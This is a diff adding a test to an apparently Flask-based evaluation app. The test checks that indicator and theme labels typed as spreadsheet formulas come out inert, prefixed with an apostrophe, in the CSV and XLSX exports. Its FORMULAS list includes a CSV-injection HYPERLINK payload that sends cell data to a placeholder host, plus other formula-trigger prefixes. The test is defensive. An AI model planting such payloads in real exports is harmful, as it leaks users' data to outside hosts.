@@ -1,5 +1,6 @@
 """Indicators, suppression, dashboard and exports of the CLSS evaluation."""
 
+import csv
 import html
 import io
 import random
@@ -22,6 +23,7 @@ from app.models import (
     Indicator,
     Objective,
     Referral,
+    Term,
 )
 
 from .conftest import Api, csrf_from, login
@@ -340,3 +342,39 @@ def test_demo_dashboard_equals_independent_counts(app, world):
     assert "Plan d'action CLSS Colignon" in html.unescape(page.text)
     xlsx = client.get(f"/evaluation/export.xlsx?n=colignon&year={year}")
     assert xlsx.status_code == 200 and xlsx.data[:2] == b"PK"
+
+
+FORMULAS = ['=HYPERLINK("https://example.invalid/?d="&E5,"Voir")', "+1+2", "-3+4", "@SUM(A1)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_labels_that_look_like_formulas_come_out_inert(app, world):
+    """An indicator label or a vocabulary label typed as a formula stays text in the CSV and
+    XLSX exports (OWASP's CSV injection rule)."""
+    with app.app_context():
+        from app.loaders import load_evaluation
+        load_evaluation()
+        indicators = db.session.scalars(select(Indicator).order_by(Indicator.id)).all()
+        for indicator, formula in zip(indicators, FORMULAS, strict=False):
+            indicator.label_fr = formula
+        theme = db.session.scalars(select(Term).where(Term.vocabulary == "theme")).first()
+        theme.label_fr = "=1+1"
+        db.session.commit()
+    client = app.test_client()
+    login(client, world.coordinator.key)
+    year = datetime.now(BXL).year
+    text = client.get(f"/evaluation/export/indicators.csv?year={year}").data.decode("utf-8-sig")
+    cells = [cell for line in csv.reader(io.StringIO(text), delimiter=";") for cell in line]
+    for formula in FORMULAS:
+        assert "'" + formula in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    themes = client.get(f"/evaluation/export/theme_month.csv?year={year}").data.decode("utf-8-sig")
+    assert "'=1+1" in [line.split(";")[0] for line in themes.splitlines()]
+    workbook = load_workbook(io.BytesIO(client.get(f"/evaluation/export.xlsx?year={year}").data))
+    texts = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row
+             if isinstance(cell.value, str)]
+    assert all(cell.data_type == "s" for cell in texts)
+    # XLSX keeps no bare carriage return: it reads back as a line feed, still behind the "'"
+    values = {cell.value.replace("\n", "\r") for cell in texts}
+    assert {"'" + formula for formula in FORMULAS} <= values and "'=1+1" in values
+    assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
